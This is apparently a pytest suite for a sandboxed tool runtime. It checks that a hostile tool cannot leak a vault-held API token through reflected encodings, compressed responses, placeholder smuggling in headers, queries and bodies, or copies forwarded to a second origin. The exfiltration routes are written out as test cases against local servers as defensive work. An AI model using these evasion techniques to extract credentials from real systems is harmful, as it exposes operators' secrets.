"""The exfiltration corpus: a hostile tool bound to a credential in a real
OpenBao, a mirror (the bound upstream) that reflects what it receives in
every ordinary HTTP way, and a sink (a second allowlisted origin). Each
attack asserts that no piece of the credential (8 characters, any
encoding, see leaks.py) reaches what the tool received (the tool returns
it XORed, so result scrubbing cannot hide it), the result, the log or the
sink, and that the credential travels only in the operator's header."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import socket
import subprocess
import threading
import time
import urllib.request
import zipfile
import zlib
from urllib.parse import parse_qs, quote, urlparse

import brotli
import pytest

from conftest import BINARY, Deployment, RawSession
from leaks import find_leaks
from openbao import OpenBao, serving
from recording import RecordingServer

TOKEN = "tok-" + "A1b2C3d4/E5f6+G7h8I9j0.k1"
ROTATED = "tok-" + "Z9y8X7w6/V5u4+T3s2R1q0.p9"
XOR = 0x5A
FORMAT = "Bearer {}"


@pytest.fixture(scope="module")
def openbao(tmp_path_factory):
    yield from serving(tmp_path_factory, {"tools/api": {"token": TOKEN}})


def chunks(text: str, width: int) -> list[str]:
    return [text[i : i + width] for i in range(0, len(text), width)]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def reflected_forms(value: str) -> dict[str, bytes]:
    """Every ordinary way an upstream might give back what it received."""
    sent = FORMAT.format(value)
    return {
        "raw": value.encode(),
        "as-sent": sent.encode(),
        "upper": value.upper().encode(),
        "lower": value.lower().encode(),
        "reversed": value[::-1].encode(),
        "hex": value.encode().hex().encode(),
        "hex-upper": value.encode().hex().upper().encode(),
        "percent": quote(value, safe="").encode(),
        "percent-lower": "".join(f"%{b:02x}" for b in value.encode()).encode(),
        "percent-partial": "".join(f"%{ord(c):02X}" if i % 2 else c for i, c in enumerate(value)).encode(),
        "json-u-escapes": "".join(f"\\u{ord(c):04x}" for c in value).encode(),
        "json-document": json.dumps({"authorization": sent, "escaped": sent.replace("/", "\\/")}).encode(),
        "html-decimal": "".join(f"&#{ord(c)};" for c in value).encode(),
        "html-hex": "".join(f"&#x{ord(c):x};" for c in value).encode(),
        "html-named": value.replace("/", "&sol;").replace("+", "&plus;").replace(".", "&period;").encode(),
        "base64-sent": b64(sent).encode(),
        "base64-align-0": b64(value).encode(),
        "base64-align-1": b64("x" + value).encode(),
        "base64-align-2": b64("xy" + value).encode(),
        "base64-wrapped-76": "\r\n".join(chunks(b64("preamble " * 9 + sent), 76)).encode(),
        "base64-wrapped-4": "\n".join(chunks(b64(sent), 4)).encode(),
        "base64-url": base64.urlsafe_b64encode(("?>" + value).encode()).rstrip(b"="),
        "utf-16-le": value.encode("utf-16-le"),
        "utf-16-be": sent.encode("utf-16-be"),
        "prefix": value[:12].encode(),
        "suffix": value[-12:].encode(),
    }


# Forms that can travel in a header value (no NUL, no line breaks).
HEADER_FORMS = [
    "raw", "as-sent", "upper", "reversed", "hex", "percent-lower", "percent-partial",
    "json-u-escapes", "html-decimal", "base64-align-1", "base64-url", "prefix", "suffix",
]
# Forms whose bytes are all valid in a header name.
NAME_FORMS = ["hex", "hex-upper", "percent-lower"]

COMPRESSIONS = [
    "content-encoding-gzip", "two-content-encoding-lines", "transfer-encoding-gzip-chunked",
    "two-transfer-encoding-lines",
    "gzip-without-header", "zlib-without-header", "bzip2-without-header", "xz-without-header",
    "zip-without-header", "brotli-without-header",
]


class Mirror(RecordingServer):
    """The bound upstream: checks the credential on /api/data, reflects it
    on /reflect in a chosen form and place, compresses it on /compressed,
    and forwards it to a third party on /store."""

    def __init__(self):
        self.expected = TOKEN
        super().__init__()

    def respond(self, handler, body: bytes):
        url = urlparse(handler.path)
        query = {k: v[0] for k, v in parse_qs(url.query).items()}
        auth = handler.headers.get("Authorization", "")
        value = auth.removeprefix("Bearer ")
        if url.path == "/api/data":
            ok = auth == FORMAT.format(self.expected)
            handler.reply(200 if ok else 401, b'{"rows": [1, 2, 3]}' if ok else b"wrong token")
        elif url.path == "/reflect":
            self.reflect(handler, reflected_forms(value)[query["form"]], query["where"])
        elif url.path == "/compressed":
            self.compressed(handler, f"token={auth}".encode(), query["kind"])
        elif url.path == "/store":
            request = urllib.request.Request(query["to"] + "/put", data=auth.encode(), method="POST")
            urllib.request.urlopen(request, timeout=5).read()
            handler.reply(200, b"stored")
        else:
            handler.reply(200, b"ok")

    @staticmethod
    def reflect(handler, form: bytes, where: str):
        half = len(form) // 2
        if where == "body":
            handler.reply(200, b"reflected: " + form + b"\n")
        elif where == "header":
            handler.reply(200, b"see headers", {"X-Echo": form.decode("latin-1")})
        elif where == "header-name":
            handler.reply(200, b"see header names", {"X-" + form.decode("latin-1"): "1"})
        elif where == "split-headers":
            handler.reply(200, b"halves", {"X-A": form[:half].decode("latin-1"), "X-B": form[half:].decode("latin-1")})
        elif where == "multipart":
            body = (
                b"--cut\r\nContent-Type: text/plain\r\n\r\n" + form[:half]
                + b"\r\n--cut\r\nContent-Type: text/plain\r\n\r\n" + form[half:] + b"\r\n--cut--\r\n"
            )
            handler.reply(200, body, {"Content-Type": "multipart/mixed; boundary=cut"})

    @staticmethod
    def compressed(handler, payload: bytes, kind: str):
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("token.txt", payload)
        bare = {
            "gzip-without-header": gzip.compress(payload),
            "zlib-without-header": zlib.compress(payload),
            "bzip2-without-header": bz2.compress(payload),
            "xz-without-header": lzma.compress(payload),
            "zip-without-header": zipped.getvalue(),
            "brotli-without-header": brotli.compress(payload),
        }
        if kind in bare:
            handler.reply(200, bare[kind], {"Content-Type": "application/octet-stream"})
            return
        data = gzip.compress(payload)
        handler.send_response(200)
        if kind == "content-encoding-gzip":
            handler.send_header("Content-Encoding", "gzip")
        elif kind == "two-content-encoding-lines":
            handler.send_header("Content-Encoding", "identity")
            handler.send_header("Content-Encoding", "gzip")
        elif kind == "two-transfer-encoding-lines":
            handler.send_header("Transfer-Encoding", "gzip")
            handler.send_header("Transfer-Encoding", "chunked")
        else:  # transfer-encoding-gzip-chunked
            handler.send_header("Transfer-Encoding", "gzip, chunked")
        if kind.startswith("transfer") or kind.startswith("two-transfer"):
            handler.end_headers()
            handler.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data))
        else:
            handler.send_header("Content-Length", str(len(data)))
            handler.end_headers()
            handler.wfile.write(data)


class Sink(RecordingServer):
    """A second allowlisted origin that keeps what is posted to /put and
    serves it back on /stored."""

    def __init__(self):
        self.stored = b""
        super().__init__()

    def respond(self, handler, body: bytes):
        if handler.path == "/put":
            self.stored = body
            handler.reply(200, b"kept")
        elif handler.path == "/stored":
            handler.reply(200, b"stored: " + self.stored)
        else:
            handler.reply(200, b"ok")


@pytest.fixture
def mirror():
    m = Mirror()
    yield m
    m.stop()


@pytest.fixture
def sink():
    s = Sink()
    yield s
    s.stop()


class Session(RawSession):
    """`stockade serve` over raw stdio with its log at trace level, and the
    hostile tool's `request` undone on the way back."""

    def __init__(self, deployment: Deployment, env=None):
        self.log_file = deployment.dir / "stderr.log"
        super().__init__(deployment, env={"STOCKADE_LOG": "trace", **(env or {})})

    def exchange(self, url, headers=(), method="GET", body="") -> tuple[bool, str, bytes]:
        """(is_error, result text, bytes the tool received) of the hostile
        tool's `request`."""
        is_error, text = self.call(
            "request",
            {"url": url, "headers": [list(h) for h in headers], "method": method, "body": body, "xor": XOR},
        )
        received = b"" if is_error else bytes(b ^ XOR for b in bytes.fromhex(text))
        return is_error, text, received

    def close(self) -> str:
        """Ends the session cleanly and returns the whole log."""
        super().close()
        assert self.proc.returncode == 0
        return self.log_file.read_text()


def deploy(deployment: Deployment, bao: OpenBao, mirror: Mirror, sink: Sink, **secret):
    deployment.add_tool(
        "thief",
        "hostile_secret_thief",
        egress={"allow": [{"url": mirror.url, "private": True}, {"url": sink.url, "private": True}]},
        **{
            "secrets.api_token": {
                "vault": "secret/data/tools/api#token",
                "destinations": [mirror.url],
                "header": "Authorization",
                "format": FORMAT,
                **secret,
            }
        },
    )
    deployment.vault = {
        "address": bao.url,
        "auth": "approle",
        "role_id_file": str(bao.role_id_file),
        "secret_id_file": str(bao.secret_id_file),
        "cache_ttl": "1s",
        "timeout": "2s",
    }
    return deployment


def header_values(seen: dict, name: str) -> list[str]:
    return [v for k, v in seen["headers"] if k.lower() == name]


def assert_clean(what: str, data, *values):
    for value in values or (TOKEN,):
        leaks = find_leaks(data, value)
        assert not leaks, f"{what}: {leaks[:5]}"


def assert_only_in_the_operators_header(mirror: Mirror, sink: Sink):
    """The credential reached the mirror only as `Authorization: Bearer …`,
    and the tool never sent any piece of it to the sink."""
    for seen in mirror.seen:
        others = [(k, v) for k, v in seen["headers"] if k.lower() != "authorization"]
        assert_clean(f"mirror {seen['target']} other headers", json.dumps(others))
        assert_clean(f"mirror {seen['target']} target", seen["target"])
        assert_clean(f"mirror {seen['target']} body", seen["body"])
        auth = [v for k, v in seen["headers"] if k.lower() == "authorization"]
        assert auth in ([], [FORMAT.format(TOKEN)], [FORMAT.format(ROTATED)]), auth
    for seen in sink.seen:
        if seen["target"] == "/put":  # the mirror's own forwarding, not the tool's
            continue
        assert_clean(f"sink {seen['target']}", json.dumps(seen["headers"]) + seen["target"], TOKEN, ROTATED)
        assert_clean(f"sink {seen['target']} body", seen["body"], TOKEN, ROTATED)


def test_every_reflection_reaches_the_tool_scrubbed(deployment, openbao, mirror, sink):
    session = Session(deploy(deployment, openbao, mirror, sink))
    failures = []
    cases = [(form, "body") for form in reflected_forms(TOKEN)]
    cases += [(form, "header") for form in HEADER_FORMS]
    # Halves of a 12-character prefix are shorter than K: nothing to find there.
    cases += [(form, "split-headers") for form in HEADER_FORMS if form not in ("prefix", "suffix")]
    cases += [(form, "header-name") for form in NAME_FORMS]
    cases += [(form, "multipart") for form in ("raw", "base64-sent", "hex")]
    for form, where in cases:
        is_error, text, received = session.exchange(f"{mirror.url}/reflect?form={form}&where={where}")
        name = f"{form} in {where}"
        if is_error:
            failures.append(f"{name}: the call failed: {text}")
            continue
        leaks = find_leaks(received, TOKEN)
        if leaks:
            failures.append(f"{name}: the tool received {leaks[:3]}")
        # The reflection happened and was scrubbed (a header name is dropped whole).
        if where == "header-name":
            head = received.split(b"\n\n")[0].decode("latin-1").lower().splitlines()[1:]
            if any(line.startswith("x-") for line in head):
                failures.append(f"{name}: a reflected header name survived: {head}")
        elif b"[redacted]" not in received:
            failures.append(f"{name}: nothing was redacted: {received[:200]!r}")
        assert_clean(f"{name} result", text)
    log = session.close()
    assert not failures, "\n".join(failures)
    assert_clean("log", log)
    assert_only_in_the_operators_header(mirror, sink)
    # Every reflection carried the credential to the mirror: the attacks were real.
    assert sum(1 for s in mirror.seen if s["target"].startswith("/reflect")) == len(cases)


def test_compressed_responses_are_refused_naming_the_rule(deployment, openbao, mirror, sink):
    session = Session(deploy(deployment, openbao, mirror, sink))
    results = {kind: session.exchange(f"{mirror.url}/compressed?kind={kind}") for kind in COMPRESSIONS}
    # The runtime keeps serving, and plain responses still arrive.
    failed, _, received = session.exchange(f"{mirror.url}/api/data")
    log = session.close()
    for kind, (is_error, text, _) in results.items():
        assert is_error, f"{kind}: accepted"
        assert "egress denied: the response is compressed" in text, f"{kind}: {text}"
        assert_clean(f"{kind} error", text)
    assert not failed and b'"rows"' in received
    assert_clean("log", log)


def test_the_tool_cannot_choose_where_the_credential_goes(deployment, openbao, mirror, sink):
    session = Session(deploy(deployment, openbao, mirror, sink))
    placeholder = "{{secret:api_token}}"
    refused = {
        "header to the bound origin": session.exchange(f"{mirror.url}/x", [("X-Stolen", f"Bearer {placeholder}")]),
        "header to another origin": session.exchange(f"{sink.url}/x", [("X-Stolen", placeholder)]),
        "query": session.exchange(f"{mirror.url}/x?leak={placeholder}"),
        "percent-encoded query": session.exchange(f"{mirror.url}/x?leak=%7B%7Bsecret:api_token%7D%7D"),
        "lower-case percent path": session.exchange(f"{sink.url}/%7b%7bsecret:api_token%7d%7d"),
        "body": session.exchange(f"{mirror.url}/x", method="POST", body=f"token={placeholder}"),
        "form-encoded body": session.exchange(
            f"{sink.url}/x", method="POST", body="token=%7B%7Bsecret%3Aapi_token%7D%7D"
        ),
    }
    representation = {
        header: session.exchange(f"{mirror.url}/reflect?form=raw&where=body", [(header, value)])
        for header, value in (("Range", "bytes=0-7"), ("If-Range", "x"), ("TE", "gzip"))
    }
    sent_before = len(mirror.seen), len(sink.seen)
    own_header = session.exchange(f"{mirror.url}/api/data", [("Authorization", "Basic dG9vbDpjaG9zZW4=")])
    coding = session.exchange(f"{mirror.url}/x", [("Accept-Encoding", "gzip, br")])
    spelled = session.exchange(mirror.url.replace("127.0.0.1", "127.0.0.1.") + "/x")
    # Once the credential has been injected, a tool that sends a piece of it
    # (a guess, or a copy) is refused before anything leaves.
    guessed = session.exchange(f"{sink.url}/guess", method="POST", body=TOKEN[6:16])
    log = session.close()

    for name, (is_error, text, _) in refused.items():
        assert is_error, f"{name}: accepted"
        assert "secret `api_token`: a placeholder in" in text and "never substituted" in text, f"{name}: {text}"
    for header, (is_error, text, _) in representation.items():
        assert is_error, f"{header}: accepted"
        assert f"header `{header.lower()}` is not allowed on a request carrying secret `api_token`" in text, text
    assert guessed[0] and "carries a piece of a credential in its body" in guessed[1], guessed[1]
    assert all(s["target"] != "/guess" for s in sink.seen)
    # None of the refused requests left the host.
    assert sent_before == (0, 0), (mirror.seen, sink.seen)
    # The tool's own Authorization is replaced, not added to.
    assert not own_header[0] and own_header[2].startswith(b"status 200"), own_header[2]
    assert header_values(mirror.seen[0], "authorization") == [FORMAT.format(TOKEN)]
    # Compression is never asked for, and Host is the canonical authority.
    assert not coding[0]
    assert header_values(mirror.seen[1], "accept-encoding") == ["identity"]
    assert not spelled[0], spelled[1]
    assert header_values(mirror.seen[2], "host") == [mirror.url.removeprefix("http://")]
    assert_clean("log", log)
    assert_only_in_the_operators_header(mirror, sink)


def test_a_copy_elsewhere_comes_back_scrubbed_before_and_after_rotation(deployment, openbao, mirror, sink):
    session = Session(deploy(deployment, openbao, mirror, sink))
    try:
        stored = session.exchange(f"{mirror.url}/store?to={sink.url}")
        # A later call reads the copy from the other origin first thing.
        fetched = session.exchange(f"{sink.url}/stored")
        openbao.put("tools/api", token=ROTATED)
        mirror.expected = ROTATED
        time.sleep(1.5)  # the cache_ttl is 1s
        rotated = session.exchange(f"{mirror.url}/api/data")
        old_copy = session.exchange(f"{sink.url}/stored")
        new_echo = session.exchange(f"{mirror.url}/reflect?form=base64-sent&where=body")
        log = session.close()
    finally:
        openbao.put("tools/api", token=TOKEN)
    assert not stored[0] and sink.stored == FORMAT.format(TOKEN).encode()
    for name, (is_error, text, received) in {"copy": fetched, "old copy": old_copy, "new echo": new_echo}.items():
        assert not is_error, f"{name}: {text}"
        assert b"[redacted]" in received, f"{name}: {received!r}"
        assert_clean(f"{name} received", received, TOKEN, ROTATED)
    assert not rotated[0] and b'"rows"' in rotated[2]
    assert_clean("log", log, TOKEN, ROTATED)
    assert_only_in_the_operators_header(mirror, sink)


def test_the_vault_client_ignores_proxy_variables(deployment, openbao, mirror, sink):
    connections = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            connections.append(conn.recv(4096))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    proxy = f"http://127.0.0.1:{listener.getsockname()[1]}"
    env = {name: proxy for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")}
    try:
        session = Session(deploy(deployment, openbao, mirror, sink), env=env)
        is_error, text, received = session.exchange(f"{mirror.url}/api/data")
        session.close()
    finally:
        stop.set()
        listener.close()
    assert not is_error, text
    assert b'"rows"' in received
    assert connections == [], "the vault client used the proxy"


def test_a_configured_vault_ca_is_the_only_trust_anchor(deployment, mirror, sink, tmp_path):
    """With `ca_bundle` set, a Vault certificate that the system trust store
    (here pointed at the real CA through SSL_CERT_FILE) would accept is
    refused unless it chains to the configured CA."""
    (tmp_path / "tls-bao").mkdir()
    bao = OpenBao(tmp_path / "tls-bao", tls=True)
    other_ca = tmp_path / "other-ca.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-subj", "/CN=unrelated test CA", "-days", "1", "-keyout", str(tmp_path / "other-ca.key"),
         "-out", str(other_ca)],
        check=True, capture_output=True,
    )
    try:
        bao.put("tools/api", token=TOKEN)
        results = {}
        for name, ca_bundle in (("right CA", bao.ca_file), ("unrelated CA", other_ca)):
            d = Deployment(tmp_path / name.replace(" ", "-"))
            d.dir.mkdir()
            deploy(d, bao, mirror, sink)
            d.vault["ca_bundle"] = str(ca_bundle)
            session = Session(d, env={"SSL_CERT_FILE": str(bao.ca_file), "SSL_CERT_DIR": str(bao.ca_file.parent)})
            results[name] = session.exchange(f"{mirror.url}/api/data")
            session.close()
    finally:
        bao.stop()
    assert not results["right CA"][0], results["right CA"][1]
    assert b'"rows"' in results["right CA"][2]
    failed, text, _ = results["unrelated CA"]
    assert failed and "secret `api_token` is unavailable: the secret store is unreachable" in text, text
    assert_clean("error", text)


@pytest.mark.parametrize(
    "destination, acknowledge, refused",
    [
        ("http://api.example.com", [], "would send the credential in clear text"),
        ("http://api.example.com", ["plain-http"], None),
        ("https://*.example.com", [], "would send the credential to every name under it"),
        ("https://*.example.com", ["wildcard"], None),
    ],
)
def test_plain_http_and_wildcard_destinations_need_an_acknowledgement(deployment, destination, acknowledge, refused):
    deployment.add_tool(
        "api",
        "fetch",
        egress={"allow": [destination]},
        **{
            "secrets.api_token": {
                "vault": "secret/data/tools/api#token",
                "destinations": [destination],
                "header": "Authorization",
                "acknowledge": acknowledge,
            }
        },
    )
    # The store is never reached: the token only has to exist.
    (deployment.dir / "token").write_text("t")
    deployment.vault = {"address": "http://127.0.0.1:1", "auth": "token", "token_file": "token"}
    result = deployment.check()
    if refused:
        assert result.returncode != 0
        assert "secrets.api_token.destinations[0]" in result.stdout and refused in result.stdout
    else:
        assert "secrets.api_token" not in result.stdout, result.stdout


def test_configuration_errors_never_print_a_secret_value(deployment):
    deployment.add_tool("text-kit", "text_kit")
    config = deployment.write()
    # A literal token hidden in a format, and a type error on a secret-like key.
    in_format = deployment.dir / "in-format.toml"
    in_format.write_text(
        (deployment.dir / "text-kit.toml").read_text()
        + '\n[secrets.api]\nvault = "secret/data/x#k"\ndestinations = ["https://a.example"]\n'
        + 'header = "Authorization"\nformat = "Bearer ghp_' + "Q9xLm2Vn7Tr4Yw9zK1pA8sD3fG6hJ0kL2" + '{}"\n'
    )
    bad_type = deployment.dir / "bad-type.toml"
    bad_type.write_text('tools = ["text-kit.toml"]\n[server]\nmax_concurrent_calls = "Zx81kQp0/Lm2Vn7Tr4Yw9"\n')
    config.write_text(config.read_text().replace('"text-kit.toml"', '"text-kit.toml", "in-format.toml"'))
    shown = subprocess.run([str(BINARY), "check", "--config", str(config)], capture_output=True, text=True, timeout=60)
    typed = subprocess.run([str(BINARY), "check", "--config", str(bad_type)], capture_output=True, text=True, timeout=60)
    assert shown.returncode != 0 and "secrets.api.format" in shown.stdout + shown.stderr
    assert "Q9xLm2Vn7Tr4" not in shown.stdout + shown.stderr
    assert typed.returncode != 0 and "line 3" in typed.stdout + typed.stderr, typed.stdout + typed.stderr
    assert "Zx81kQp0" not in typed.stdout + typed.stderr
